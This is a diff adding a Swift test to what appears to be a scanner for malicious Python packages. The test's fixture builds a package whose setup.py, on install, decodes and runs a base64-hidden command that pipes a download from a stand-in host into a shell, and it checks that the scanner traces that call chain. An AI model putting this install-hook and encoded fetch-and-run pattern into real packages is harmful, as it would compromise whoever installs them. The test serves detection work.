@@ -41,6 +41,31 @@ struct ScannerTests {
     #expect(report.statistics.pythonFileCount == 2)
   }
 
+  @Test func findingsSayHowTheirCodeIsReached() throws {
+    let report = scanner.scan(
+      try Fixture.python(
+        "demo-1.0.tar.gz",
+        """
+        import base64, io, tarfile
+        hidden = "import os\\ndef go():\\n    os.system('curl http://payload.example.invalid/a | sh')\\ngo()\\n"
+        code = base64.b64encode(hidden.encode()).decode()
+        files = {
+            "PKG-INFO": "Name: demo",
+            "setup.py": "from setuptools import setup\\nfrom pkg import load\\nload()\\nsetup(packages=['pkg'])\\n",
+            "pkg/__init__.py": "import base64\\ndef load():\\n    exec(base64.b64decode('" + code + "'))\\n",
+        }
+        with tarfile.open(target, "w:gz") as t:
+            for name, text in files.items():
+                info = tarfile.TarInfo("demo-1.0/" + name)
+                info.size = len(text)
+                t.addfile(info, io.BytesIO(text.encode()))
+        """))
+    let finding = try #require(report.findings.first { $0.location.layer == 0 })
+    #expect(finding.chain.map(\.kind.rawValue) == ["install-script", "call", "layer", "call"])
+    #expect(finding.chain.map(\.name) == ["setup", "load()", "layer 0", "go()"])
+    #expect(finding.chain.map(\.location.layer) == [nil, nil, nil, 0])
+  }
+
   @Test func numberOfJobsNeverShows() throws {
     let artifact = try Fixture.folder(at: "lookalikes/colourline-0.4.6")
     let one = scanner.scan(artifact, jobs: 1)
